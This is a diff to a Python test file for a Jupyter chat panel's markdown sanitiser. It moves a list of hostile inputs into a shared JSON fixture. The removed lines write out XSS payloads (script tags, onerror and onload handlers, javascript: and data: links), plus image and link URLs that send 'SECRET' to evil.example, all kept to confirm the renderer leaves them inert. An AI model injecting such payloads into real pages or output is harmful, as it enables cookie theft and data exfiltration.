@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 from markdown_it import MarkdownIt
@@ -11,21 +13,8 @@ from jupyter_chatflow.events import Completed, TokenDelta, TurnStarted
 from jupyter_chatflow.render import TurnView
 from jupyter_chatflow.safe_markdown import ATTRIBUTES, TAGS, markdown_html
 
-HOSTILE = [
-    "<script>alert(document.cookie)</script>",
-    "<img src=x onerror=alert(1)>",
-    '<a href="https://evil.example/?q=secret">click</a>',
-    "![logo](https://evil.example/collect?q=SECRET)",
-    "![x][ref]\n\n[ref]: https://evil.example/ref?q=SECRET",
-    "[click me](javascript:alert(1))",
-    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "<https://evil.example/autolink>",
-    '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
-    "<svg onload=alert(1)><use href=#x /></svg>",
-    "<!-- a comment --><details open ontoggle=alert(1)>",
-    "`<img src=x onerror=alert(1)>` and ```<script>x</script>```",
-    '<div style="background:url(https://evil.example/bg)">styled</div>',
-]
+# Shared with the panel's tests (js/test/markdown.test.ts): the same inputs must stay inert in both renderers.
+HOSTILE = json.loads((Path(__file__).parents[1] / "js" / "test" / "fixtures" / "hostile_markdown.json").read_text())
 
 
 class Tags(HTMLParser):
